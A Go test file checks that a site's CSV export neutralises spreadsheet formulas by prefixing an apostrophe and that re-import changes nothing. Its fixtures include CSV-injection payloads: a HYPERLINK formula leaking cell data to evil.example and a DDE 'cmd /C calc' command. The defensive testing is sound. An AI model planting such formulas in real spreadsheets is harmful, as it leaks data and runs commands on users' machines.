package sheet

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// formulaNotes are notes a spreadsheet would run as formulas if a CSV held them raw.
var formulaNotes = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"chi tiết")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+84 912 345 678`,
	`-2+3`,
	"'=HYPERLINK(1)", // the neutralised form of a formula, as a keeper may have typed it
	"''@x",
	"'tên",
}

// TestExportCSVNeutralised: atlas export statuses writes no cell a spreadsheet would read as
// a formula (a leading =, +, -, @ gets an apostrophe, as the site's CSV downloads do), and
// importing the sheet undoes it, so that the round trip changes no byte (issue 30: the export
// wrote =HYPERLINK(…) raw into the CSV the docs tell keepers to open).
func TestExportCSVNeutralised(t *testing.T) {
	site := copySite(t)
	unit := filepath.Join(site, "content", "units", "03664.toml")
	b, err := os.ReadFile(unit)
	if err != nil {
		t.Fatal(err)
	}
	for i, note := range formulaNotes {
		b = append(b, "\n[[assessments]]\ncriteria_set = \"2026-2030\"\nas_of = 2026-0"+string(rune('1'+i))+"-01\nlevel = \"in-progress\"\nnote = "+tomlQuote(note)+"\n"...)
	}
	if err := os.WriteFile(unit, b, 0o644); err != nil {
		t.Fatal(err)
	}
	data := exportCSV(t, site)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(utf8BOM)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var notes []string
	for _, r := range recs[1:] {
		if r[Code] == "03664" && r[Note] != "" {
			notes = append(notes, r[Note])
		}
	}
	want := []string{
		`'=HYPERLINK("https://evil.example/?"&A1,"chi tiết")`,
		`'@SUM(1+1)*cmd|' /C calc'!A0`,
		`'+84 912 345 678`,
		`'-2+3`,
		"''=HYPERLINK(1)",
		"'''@x",
		"'tên",
	}
	if strings.Join(notes, "\n") != strings.Join(want, "\n") {
		t.Errorf("notes in the CSV:\n%s\nwant:\n%s", strings.Join(notes, "\n"), strings.Join(want, "\n"))
	}

	// Imported back, the sheet changes no byte: every note reads as it was written.
	file := writeFile(t, t.TempDir(), "export.csv", string(data))
	before := snapshot(t, site)
	p := apply(t, Options{Site: site, File: file})
	if len(p.Changes) != 0 || p.Same != p.Assessments {
		t.Errorf("re-import: %s", p.Summary())
	}
	sameTree(t, before, snapshot(t, site))
}

// tomlQuote writes s as a TOML literal-free basic string for the tests' files.
func tomlQuote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}
